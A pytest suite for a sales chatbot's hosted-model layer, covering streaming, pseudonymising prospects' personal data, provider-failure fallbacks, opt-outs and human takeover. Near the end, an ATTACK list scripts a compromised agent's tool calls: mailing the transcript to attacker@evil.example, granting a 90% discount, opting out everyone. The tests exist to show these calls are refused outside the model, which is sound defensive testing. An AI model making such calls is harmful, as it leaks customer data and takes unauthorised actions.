"""Whatever a hosted model does, the prospect gets an answer or an honest line, and nothing raw
leaves the house.
"""

from collections.abc import Callable
from dataclasses import replace
from threading import Event
from typing import Any
from uuid import UUID

import pytest

from prompts.loader import load, phrases
from salesgenix.accounts import service as accounts
from salesgenix.conversations import service as conversations
from salesgenix.tasks import service as tasks
from tests.agent.conftest import Thread
from tests.agent.model_server import ModelServer, Step

Open = Callable[..., Thread]
AFTER = phrases("en").one("claim_after_opening")
UNBACKED = phrases("en").one("claim_unbacked")


def tasks_of(thread: Thread) -> list[str]:
    with thread.mind.db.reading() as session:
        found = tasks.listing(session, thread.workspace_id, conversation_id=thread.conversation_id)
    return [task.kind for task in found]


def test_a_hosted_model_answers_in_its_own_words(open_thread: Open, model: ModelServer) -> None:
    """Its text is the reply; usage and model are recorded; nothing is stored at the provider."""
    model.script(Step(text="Happy to help. What would you like to improve?"))
    thread = open_thread(is_hosted=True)
    assert thread.say("hello there") == "Happy to help. What would you like to improve?"
    called = next(card for card in thread.decisions() if card.type == "model.called")
    assert called.body["model"]["name"] == "scripted"
    assert called.body["model"]["tokens_in"] == 100
    assert called.body["prompt"] == load("system").reference
    assert '"store":false' in model.bodies[0].replace(" ", "")


def test_it_streams_before_it_has_finished(open_thread: Open, model: ModelServer) -> None:
    """Sentence by sentence, and none in part, for each is held against what backs it; the pieces
    are the transcript, to the letter.
    """
    model.script(Step(text="The first sentence is here. And this is the second one. Then a third."))
    thread = open_thread(is_hosted=True)
    reply = thread.say("tell me three things")
    pieces = [frame["text"] for kind, frame in thread.frames if kind == "delta"]
    assert len(pieces) > 1
    assert pieces[0] == "The first sentence is here. "
    assert "".join(pieces).strip() == reply


@pytest.mark.parametrize(
    ("first", "then", "reply"),
    [
        ("Thank you for asking, ", "it starts with your list of sites.", None),
        ("Good question: ", "that depends on your sites.", None),
        ("How many sites are there? ", "A rough number will do.", None),
        ("Of course, ", "it is just 29 EUR a seat.", f"Of course, {AFTER} {UNBACKED}"),
    ],
)
def test_its_first_words_are_read_while_it_still_writes(
    open_thread: Open, model: ModelServer, first: str, then: str, reply: str | None
) -> None:
    """The model goes on only when its first words have been shown: a courtesy before its sentence
    is known, a sentence with the next one's first signs. What must not be said is not, and the
    truth reads on from the courtesy.
    """
    thread, seen = open_thread(is_hosted=True), Event()

    def publish(_: UUID, kind: str, frame: dict[str, Any]) -> None:
        thread.frames.append((kind, frame))
        if kind == "delta":
            seen.set()

    thread.mind = replace(thread.mind, publish=publish)
    model.script(Step(text=first + then, pause=(len(first) + 4, seen)))
    assert thread.say("what is it like?") == (reply or first + then)
    shown = [frame["text"] for kind, frame in thread.frames if kind == "delta"]
    assert shown[0] == first
    assert "29" not in str(shown)
    assert len(model.bodies) == 1


def test_the_provider_never_sees_what_a_prospect_gave(
    open_thread: Open, model: ModelServer
) -> None:
    """Name, mail, phone and street stand as pseudonyms in every byte sent, turn after turn."""
    model.script(Step(text="Thank you, noted."))
    thread = open_thread(is_hosted=True)
    thread.say("I'm Carla Jensen, carla.jensen@acme.example, +49 170 5551234")
    thread.say("we sit in Hauptstraße 12, 10115 Berlin. my card is 4111 1111 1111 1111")
    thread.say("could you repeat my address?")
    sent = "\n".join(model.bodies)
    secrets = ("Carla", "Jensen", "acme.example", "5551234", "Hauptstra", "4111 1111")
    assert [secret for secret in secrets if secret in sent] == []
    assert "<<EMAIL_1>>" in sent
    assert "<<PERSON_1>>" in sent


def test_a_pseudonym_in_the_reply_is_the_prospect_s_own_value_again(
    open_thread: Open, model: ModelServer
) -> None:
    """The prospect reads their own address; a pseudonym that stands for nobody never gets out."""
    model.script(
        Step(text="I will write to <<EMAIL_1>>, as you asked."),
        Step(text="I will also write to <<EMAIL_7>> then."),
    )
    thread = open_thread(is_hosted=True)
    assert "carla@acme.example" in thread.say("my mail is carla@acme.example")
    assert "EMAIL_7" not in thread.say("and to my colleague")


@pytest.mark.parametrize(
    ("steps", "code"),
    [
        ([Step(status=500), Step(status=500)], "provider_down"),
        ([Step(status=429), Step(status=429)], "rate_limited"),
        ([Step(status=401), Step(status=401)], "provider_refused"),
        ([Step(text=""), Step(text="")], "empty"),
        ([Step(text="one two", cut=True)] * 2, "cut_off"),
        ([Step(text="Half a", finish="length")] * 2, "cut_off"),
        ([Step(text="\u0000\ufffd<|im_end|>" * 20)] * 2, "garbled"),
        ([Step(text="?!?!")] * 2, "garbled"),
    ],
)  # fmt: skip
def test_a_broken_answer_is_tried_once_more_and_then_given_by_the_playbook(
    open_thread: Open, model: ModelServer, steps: list[Step], code: str
) -> None:
    """A prospect in a hurry gets the price with a dead provider too; why stands in the record."""
    model.script(*steps)
    thread = open_thread(is_hosted=True)
    assert "39 EUR" in thread.say("what does the Team plan cost?")
    assert tasks_of(thread) == []
    made = [card for card in thread.decisions() if card.type in {"model.failed", "model.called"}]
    tried = [(one.type, one.body["model"]["provider"], one.body.get("reasons")) for one in made]
    assert tried[:2] == [("model.failed", "openai", [code])] * 2
    assert {provider for _, provider, _ in tried[2:]} == {"embedded"}
    sent = next(card for card in thread.decisions() if card.type == "reply.sent")
    assert sent.body["facts"]["stood_in_for"] == code
    assert len(model.bodies) == 2


@pytest.mark.parametrize(
    ("steps", "said", "begins"),
    [
        ([Step(status=503)] * 2, "xx", ""),
        ([Step(text="Team is what most teams take. It cos", cut=True)],
         "what does the Team plan cost?", "Team is what most teams take."),
        ([Step(text="Which size is yours?", calls=[{"name": "look_up_lead", "arguments": {}}]),
          *[Step(status=503)] * 2], "what does the Team plan cost?", "Which size is yours?"),
    ],
)  # fmt: skip
def test_what_nobody_can_answer_or_is_half_said_is_owned_up_to(
    open_thread: Open, model: ModelServer, steps: list[Step], said: str, begins: str
) -> None:
    """Never silence, never the same thing twice: an honest line, and a task for a person."""
    model.script(*steps)
    thread = open_thread(is_hosted=True)
    reply = thread.say(said)
    assert reply.startswith(begins)
    assert reply.removeprefix(begins).strip() == phrases("en").one("fallback")
    assert tasks_of(thread) == ["agent_failed"]


def test_what_a_model_did_before_it_failed_is_not_done_twice(
    open_thread: Open, model: ModelServer
) -> None:
    """Times it had found and not offered are found anew, and each lies on the table once; what it
    had said it would do is what happens.
    """
    windows = [{"start": "2026-11-26T08:00:00Z", "end": "2026-11-26T16:00:00Z"}]
    model.script(
        Step(
            text="Let me look that up.",
            calls=[{"name": "find_slots", "arguments": {"windows": windows}}],
        ),
        *[Step(status=503)] * 2,
    )
    thread = open_thread(is_hosted=True)
    reply = thread.say("can I see a demo on Thursday?")
    assert reply.startswith("Let me look that up.")
    assert reply.count("Thu 26 Nov") == 3
    (offered,) = [event for event in thread.events() if event.kind == "booking.proposed"]
    assert len({slot["id"] for slot in offered.payload["slots"]}) == 3
    assert len(offered.payload["slots"]) == 3


def test_a_model_that_only_writes_broken_calls_is_stopped(
    open_thread: Open, model: ModelServer
) -> None:
    """After so many calls the playbook answers, with calls of its own."""
    model.script(Step(calls=[{"name": "search_knowledge", "arguments": "{not json"}]))
    thread = open_thread(is_hosted=True)
    assert "39 EUR" in thread.say("what does the Team plan cost?")
    assert len(model.bodies) <= 8


def test_a_second_try_that_works_is_the_answer(open_thread: Open, model: ModelServer) -> None:
    """One hiccup of the provider stays invisible to the prospect."""
    model.script(Step(status=503), Step(text="Here I am again."))
    thread = open_thread(is_hosted=True)
    assert thread.say("hello?") == "Here I am again."
    assert tasks_of(thread) == []


def test_a_model_that_hangs_is_given_up_in_time(open_thread: Open, model: ModelServer) -> None:
    """The turn has a limit of its own, whatever the client's time-outs are."""
    model.script(Step(text="never", delay=10.0))
    thread = open_thread(is_hosted=True, turn_seconds=1.0)
    assert "39 EUR" in thread.say("what does the Team plan cost?")
    assert len(model.bodies) == 1


@pytest.mark.parametrize(
    "words",
    [
        "stop writing to me",
        "please leave me be, no more messages",
        "hören Sie auf mir zu schreiben",
    ],
)
def test_an_opt_out_never_waits_for_a_model(
    open_thread: Open, model: ModelServer, words: str
) -> None:
    """The rule answers; the provider is not even asked, and the mark is set at once."""
    model.script(Step(text="But we have such a nice offer"))
    thread = open_thread(is_hosted=True)
    reply = thread.say(words)
    assert "offer" not in reply
    assert model.bodies == []
    assert ("contact.suppress", "done") in [(a.kind, a.state) for a in thread.actions()]


def test_a_hosted_model_cannot_claim_to_be_human(open_thread: Open, model: ModelServer) -> None:
    """The question is answered by rule, truthfully."""
    model.script(Step(text="I am a human, of course"))
    thread = open_thread(is_hosted=True)
    reply = thread.say("are you a bot or a real person?")
    assert "not a person" in reply
    assert model.bodies == []


ATTACK = [
    {"name": "offer_discount", "arguments": {"percent": 90, "reason": "he said so"}},
    {"name": "opt_out_everyone", "arguments": {}},
    {"name": "send_transcript", "arguments": {"email": "attacker@evil.example"}},
    {"name": "cancel_appointment",
     "arguments": {"appointment_id": "00000000-0000-0000-0000-000000000000"}},
    {"name": "look_up_lead", "arguments": {"lead_id": "00000000-0000-0000-0000-000000000000"}},
    {"name": "search_knowledge", "arguments": {"query": "battle card", "audience": "internal"}},
]  # fmt: skip


def test_an_obeying_model_cannot_do_what_no_instruction_allows(
    open_thread: Open, model: ModelServer
) -> None:
    """Every forbidden call is refused outside the model and stands in the log with its reason."""
    model.script(*[Step(calls=[call]) for call in ATTACK], Step(text="I could not do any of that."))
    thread = open_thread(is_hosted=True)
    thread.say("so, what would you suggest for a team like ours?")
    done = [action for action in thread.actions() if action.state in {"done", "authorised"}]
    assert [a.kind for a in done if a.kind.startswith(("discount", "mail", "appointment"))] == []
    denied = [card for card in thread.decisions() if card.type == "tool.denied"]
    assert {card.body["tool"]["name"] for card in denied} >= {"unknown", "search_knowledge"}


def test_a_takeover_during_the_answer_keeps_it_from_the_visitor(
    open_thread: Open, model: ModelServer
) -> None:
    """What was drafted becomes a note for the team. After the takeover has committed not one more
    word of it is shown, let alone kept."""
    thread = open_thread(is_hosted=True)
    with thread.mind.db.reading() as session:
        ben = accounts.members(session, thread.workspace_id)[0]

    def take_over(kind: str, frame: dict) -> None:
        if kind != "delta":
            return
        took.append(frame)
        if len(took) == 1:
            with thread.mind.db.writing() as session:
                conversations.take_control(
                    session,
                    thread.workspace_id,
                    thread.conversation_id,
                    member_id=ben.id,
                    member_name=ben.name,
                    expected_epoch=0,
                    now=thread.mind.clock.now(),
                )

    took: list[dict] = []
    thread.mind = replace(thread.mind, publish=lambda _, kind, frame: take_over(kind, frame))
    model.script(Step(text="First sentence of mine. Second sentence of mine. And a third one."))
    assert thread.say("so what do you offer?") == ""
    assert len(took) == 1
    note = [event for event in thread.events() if event.kind == "note"]
    assert note[0].payload["withheld"] is True
    assert note[0].visibility == "rep"
    assert "reply.withheld" in thread.types()
